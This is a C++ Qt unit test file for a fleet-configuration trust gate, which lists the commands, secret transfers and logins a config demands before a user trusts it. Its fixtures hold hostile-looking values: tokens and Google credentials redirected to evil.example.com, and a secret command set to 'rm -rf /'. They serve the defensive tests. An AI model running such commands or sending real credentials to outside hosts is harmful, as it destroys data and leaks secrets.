// SPDX-FileCopyrightText: The Hybridge authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "backend/base/utc.h"
#include "backend/fleet/fleetfile.h"
#include "backend/fleet/fleettrust.h"

#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QTest>

using namespace hybridge;
using namespace Qt::Literals::StringLiterals;

namespace {

const QDateTime noon(QDate(2026, 1, 26), QTime(12, 0), Utc);

FleetConfig parsed(const QByteArray &bytes)
{
    const FleetParse parse = parseFleet(bytes, u"/home/op"_s);
    return parse.config.value_or(FleetConfig());
}

QByteArray data(const char *name)
{
    QFile file(QStringLiteral(HYBRIDGE_SOURCE_DIR) + u"/tests/data/fleet/"_s + QString::fromLatin1(name));
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

} // namespace

class TestFleetTrust : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void listsEveryCommandSecretAndLogin();
    void tellsWhoGetsASecret_data();
    void tellsWhoGetsASecret();
    void asksOnce();
    void otherBytesAreAskedAgain();
    void harmlessFilesAreNotAsked();
    void damagedStateTrustsNothing_data();
    void damagedStateTrustsNothing();
    void keepsTheNewest();
    void saysWhenItCannotRemember();
    void refusalNamesEverything();
};

void TestFleetTrust::listsEveryCommandSecretAndLogin()
{
    const FleetDemands demands = demandsOf(parsed(data("extensions.json")));
    const QStringList lines = demands.lines();
    const QStringList expected{
        u"run: [\"gcloud\",\"auth\",\"print-access-token\"] (Google credentials)"_s,
        u"run: cloudflared access ssh --hostname %h (Way to node bastion)"_s,
        u"send: env:ACCESS_ID -> llm.example.com"_s,
        u"send: file:/home/op/.secrets/access -> llm.example.com"_s,
        u"send: command:[\"gcloud\",\"auth\",\"print-access-token\"] -> compute.googleapis.com"_s,
        u"send: command:[\"gcloud\",\"auth\",\"print-access-token\"] -> tpu.googleapis.com"_s,
        u"send: command:[\"gcloud\",\"auth\",\"print-access-token\"] -> cloudbilling.googleapis.com"_s,
        u"send: command:[\"gcloud\",\"auth\",\"print-access-token\"] -> billingbudgets.googleapis.com"_s,
        u"send: command:[\"gcloud\",\"auth\",\"print-access-token\"] -> cloudquotas.googleapis.com"_s,
        u"send: keyring:access-id -> the command that leads to node bastion"_s,
        u"send: keyring:engine-key -> node inner (10.0.0.5:8443)"_s,
        u"log in: op@bastion.example.com:2222 (your usual keys)"_s,
        u"log in: 10.0.0.5 (your usual keys)"_s,
    };
    QCOMPARE(lines, expected);
}

void TestFleetTrust::tellsWhoGetsASecret_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("line");
    QTest::newRow("token to another API") << QByteArray(
        R"({"version":1,"cloudflare":{"token":"keyring:cloudflare","apiBase":"https://evil.example.com/v4"}})")
                                          << u"send: keyring:cloudflare -> evil.example.com"_s;
    QTest::newRow("Google credentials to another API")
        << QByteArray(R"({"version":1,"gcp":{"computeBase":"https://evil.example.com:8443/v1"}})")
        << u"send: your Google credentials (adc) -> evil.example.com:8443"_s;
    QTest::newRow("Access header to a node") << QByteArray(
        R"({"version":1,"endpoint":{"url":"https://llm.example.com","access":{"clientId":"keyring:i","clientSecret":"keyring:s"}},"nodes":[{"id":"a","url":"https://evil.example.com"}]})")
                                             << u"send: keyring:s -> evil.example.com"_s;
    QTest::newRow("engine key over the public hostname") << QByteArray(
        R"({"version":1,"nodes":[{"id":"a","url":"https://evil.example.com","engine":{"kind":"vllm","apiKey":"env:KEY"}}]})")
                                                         << u"send: env:KEY -> evil.example.com"_s;
    QTest::newRow("secret by command") << QByteArray(
        R"({"version":1,"cloudflare":{"token":"command:[\"rm\",\"-rf\",\"/\"]"}})")
                                       << u"run: [\"rm\",\"-rf\",\"/\"] (Cloudflare API)"_s;
}

void TestFleetTrust::tellsWhoGetsASecret()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, line);
    const QStringList lines = demandsOf(parsed(bytes)).lines();
    QVERIFY2(lines.contains(line), qPrintable(lines.join(u'\n')));
}

void TestFleetTrust::asksOnce()
{
    QTemporaryDir dir;
    const QString state = dir.filePath(u"deep/er/trusted.json"_s);
    const FleetConfig config = parsed(data("whole.json"));
    FleetTrust trust(state);
    QCOMPARE(trust.check("aa", config).verdict, TrustDecision::Verdict::Ask);
    QVERIFY(!trust.check("aa", config).isTrusted());
    QVERIFY(trust.remember("aa", u"/x/fleet.json"_s, noon));
    QCOMPARE(trust.check("aa", config).verdict, TrustDecision::Verdict::Known);
    QCOMPARE(FleetTrust(state).check("aa", config).verdict, TrustDecision::Verdict::Known); // also the next time
    QCOMPARE(QFileInfo(state).permissions() & 0x0077, QFileDevice::Permissions());
}

void TestFleetTrust::otherBytesAreAskedAgain()
{
    QTemporaryDir dir;
    FleetTrust trust(dir.filePath(u"trusted.json"_s));
    QVERIFY(trust.remember("aa", u"/x"_s, noon));
    QCOMPARE(trust.check("ab", parsed(data("whole.json"))).verdict, TrustDecision::Verdict::Ask);
    QCOMPARE(trust.check("", parsed(data("whole.json"))).verdict, TrustDecision::Verdict::Ask);
}

void TestFleetTrust::harmlessFilesAreNotAsked()
{
    QTemporaryDir dir;
    const FleetTrust trust(dir.filePath(u"trusted.json"_s));
    const FleetConfig config
        = parsed(R"({"version":1,"endpoint":{"url":"https://llm.example.com"},"nodes":[{"id":"a"}]})");
    QCOMPARE(trust.check("aa", config).verdict, TrustDecision::Verdict::Harmless);
    QVERIFY(trust.check("aa", config).isTrusted());
    const FleetConfig login = parsed(R"({"version":1,"nodes":[{"id":"a","ssh":{"host":"h.example.com"}}]})");
    QCOMPARE(trust.check("aa", login).verdict, TrustDecision::Verdict::Ask);
}

void TestFleetTrust::damagedStateTrustsNothing_data()
{
    QTest::addColumn<QByteArray>("state");
    QTest::newRow("empty") << QByteArray();
    QTest::newRow("no JSON") << QByteArray("{{{");
    QTest::newRow("a list") << QByteArray("[\"aa\"]");
    QTest::newRow("another version") << QByteArray(R"({"version":2,"files":[{"sha256":"aa"}]})");
    QTest::newRow("files is a text") << QByteArray(R"({"version":1,"files":"aa"})");
    QTest::newRow("entries are texts") << QByteArray(R"({"version":1,"files":["aa",7,null,{"sha256":7}]})");
    QTest::newRow("too large") << R"({"version":1,"files":[{"sha256":"aa"}]})" + QByteArray(300 * 1024, ' ');
}

void TestFleetTrust::damagedStateTrustsNothing()
{
    QFETCH(QByteArray, state);
    QTemporaryDir dir;
    const QString path = dir.filePath(u"trusted.json"_s);
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(state);
    file.close();
    FleetTrust trust(path);
    const FleetConfig config = parsed(data("whole.json"));
    QCOMPARE(trust.check("aa", config).verdict, TrustDecision::Verdict::Ask);
    QVERIFY(trust.remember("aa", u"/x"_s, noon));
    QCOMPARE(trust.check("aa", config).verdict, TrustDecision::Verdict::Known);
}

void TestFleetTrust::keepsTheNewest()
{
    QTemporaryDir dir;
    QByteArray entries;
    for (int i = 0; i < 200; ++i)
        entries += (i ? ",{\"sha256\":\"" : "{\"sha256\":\"") + QByteArray::number(i) + "\"}";
    QFile file(dir.filePath(u"trusted.json"_s));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("{\"version\":1,\"files\":[" + entries + "]}");
    file.close();
    FleetTrust trust(file.fileName());
    const FleetConfig config = parsed(data("whole.json"));
    QCOMPARE(trust.check("0", config).verdict, TrustDecision::Verdict::Known);
    for (int i = 200; i < 205; ++i)
        QVERIFY(trust.remember(QByteArray::number(i), u"/x"_s, noon));
    QCOMPARE(trust.check("4", config).verdict, TrustDecision::Verdict::Ask);
    QCOMPARE(trust.check("5", config).verdict, TrustDecision::Verdict::Known);
    QCOMPARE(trust.check("204", config).verdict, TrustDecision::Verdict::Known);
}

void TestFleetTrust::saysWhenItCannotRemember()
{
    QTemporaryDir dir;
    QFile blocker(dir.filePath(u"file"_s));
    QVERIFY(blocker.open(QIODevice::WriteOnly));
    FleetTrust trust(dir.filePath(u"file/trusted.json"_s)); // a folder that cannot be: a file stands there
    const Result<void> result = trust.remember("aa", u"/x"_s, noon);
    QVERIFY(!result);
    QCOMPARE(result.error().kind, Error::Kind::Unavailable);
    QVERIFY(!result.error().remedy.isEmpty());
}

void TestFleetTrust::refusalNamesEverything()
{
    const FleetDemands demands = demandsOf(parsed(data("whole.json")));
    const Error error = untrustedError(u"/x/fleet.json"_s, demands);
    QCOMPARE(error.kind, Error::Kind::Refused);
    QVERIFY(error.summary.contains(u"/x/fleet.json"_s));
    QVERIFY(error.remedy.contains(u"--trust"_s));
    for (const QString &line : demands.lines())
        QVERIFY2(error.detail.contains(line), qPrintable(line));
    QVERIFY(error.detail.contains(u"send: keyring:cloudflare -> api.cloudflare.com"_s));
    QVERIFY(error.detail.contains(u"log in: op@192.0.2.7 (your usual keys)"_s));
}

QTEST_GUILESS_MAIN(TestFleetTrust)
#include "tst_fleettrust.moc"
